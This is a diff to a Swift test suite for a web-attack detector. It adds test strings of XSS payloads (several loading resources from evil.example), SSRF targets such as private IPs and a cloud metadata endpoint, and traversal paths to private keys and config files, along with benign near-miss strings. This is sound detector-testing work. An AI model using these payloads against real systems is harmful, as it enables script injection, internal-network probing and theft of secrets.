@@ -43,6 +43,9 @@ struct WebDetectorTests {
         "import * as m from 'https://evil.example/x.js'", "document.getElementById('x').innerHTML=1",
         #"<r xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="http://oob.example/s.xsd"/>"#,
         "<a href=\"//evil.example\"", "\\xbcb\\xbebold\\xbc/b\\xbe", "¼i¾x¼/i¾",
+        "{onerror=alert}throw 1", "(alert)(1)", "[1].find(alert)", "a=confirm,a(1)", "@import url(//evil.example/x.css);",
+        "<?xml-stylesheet type=\"text/xsl\" href=\"//evil.example/x.xsl\"?>", "<form><button formaction=\"//evil.example\">",
+        "<div data-ng-init=\"x=1\">",
     ])
     func xssTruePositives(_ payload: String) {
         #expect(missedPlaces(payload).isEmpty, "\(payload) missed in \(missedPlaces(payload)) -> \(rules(inValue: payload))")
@@ -54,6 +57,7 @@ struct WebDetectorTests {
         "<a href=\"https://hl7.org/fhir\">FHIR</a>", "Use import statements to load modules from npm", "module.exports is CommonJS",
         "Call me (this afternoon) please", "while (!done) wait", "in-line styles", "x = y + z", "'quoted', then 'more'",
         "Here is a link: <a href=\"https://www.youtube.com/watch?v=", "<p title=\"x\">text</p>",
+        "Press OK (confirm) to continue", "mode=eval", "@import is a CSS rule", "<form><button>Send</button></form>",
     ])
     func xssFalsePositives(_ text: String) {
         #expect(!blockedAnywhere(text), "\(text) -> \(rules(inValue: text))")
@@ -83,7 +87,8 @@ struct WebDetectorTests {
         "http://127．0．0．1/", "gopher://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ:6379/_", "http://a.example:80 &@10.0.0.1:22/", "http://a.example#@127.0.0.1/",
         "data:text/html;base64,PHNjcmlwdD4=", "data:application/x-httpd-php,<?php", "data:,hello",
         "unix:/var/run/docker.sock|http://localhost/containers/json", "file?", "ftp??",
-        "http://203.0.113.9/hook",
+        "http://203.0.113.9/hook", "http://127.0.0.1.nip.io/", "//10.0.0.7/admin", "192.168.1.1:8080/", "http://x.oastify.com/",
+        "\\\\fileserver\\share\\x", "http://100.100.100.200/latest/meta-data/",
     ])
     func ssrfTruePositives(_ payload: String) {
         #expect(missedPlaces(payload).isEmpty, "\(payload) missed in \(missedPlaces(payload)) -> \(rules(inValue: payload))")
@@ -93,6 +98,7 @@ struct WebDetectorTests {
         "data:image/png;base64,iVBORw0KGgo=", "Is it http or https?", "files?", "http://example.com/page?x=1", "http://loinc.org",
         "see http://203.0.113.9/ for details", "the local store", "localhost",
         "Use 0x2e0x2e in hex", "printer.local is offline", "m² and cm³", "unix: a family of systems | http is a protocol",
+        "0.5/1", "10.10.2020/2021", "C:\\dir\\file", "https://oast.example.com/",
     ])
     func ssrfFalsePositives(_ text: String) {
         #expect(!blockedAnywhere(text), "\(text) -> \(rules(inValue: text))")
@@ -128,7 +134,8 @@ struct WebDetectorTests {
 
     @Test("traversal: backslash and ..; steps, hex-spelled steps, history files, passwd backups, SAM", arguments: [
         "..\\windows\\x", "..;/admin", "0x2e0x2e/x", "0x2e0x2e/0x2e0x2e/x", "0x5c0x2e./", "/etc/shadow-", "../.python_history",
-        "c:\\windows\\repair\\sam", "/etc/gshadow", "x/..;/y",
+        "c:\\windows\\repair\\sam", "/etc/gshadow", "x/..;/y", ".claude/settings.json", "WEB-INF/web.xml",
+        "/etc/ssl/private/server.key", "..∕..∕etc∕passwd", "/boot/grub/grub.cfg", "x/.bash_profile",
     ])
     func traversalTruePositives(_ payload: String) {
         #expect(missedPlaces(payload).isEmpty, "\(payload) missed in \(missedPlaces(payload)) -> \(rules(inValue: payload))")
@@ -137,6 +144,7 @@ struct WebDetectorTests {
     @Test("traversal near-misses pass", arguments: [
         "../index.html", "C:\\Windows\\System32\\notes.txt", "0x2e is the hex code of a dot", "config/security",
         "history of the file", "shadow-boxing", "wait... then go", "a;b;c", "version 1.2.3-beta",
+        "the key.pem format", "see docs/keys.md", "meta-information",
     ])
     func traversalFalsePositives(_ text: String) {
         #expect(!blockedAnywhere(text), "\(text) -> \(rules(inValue: text))")
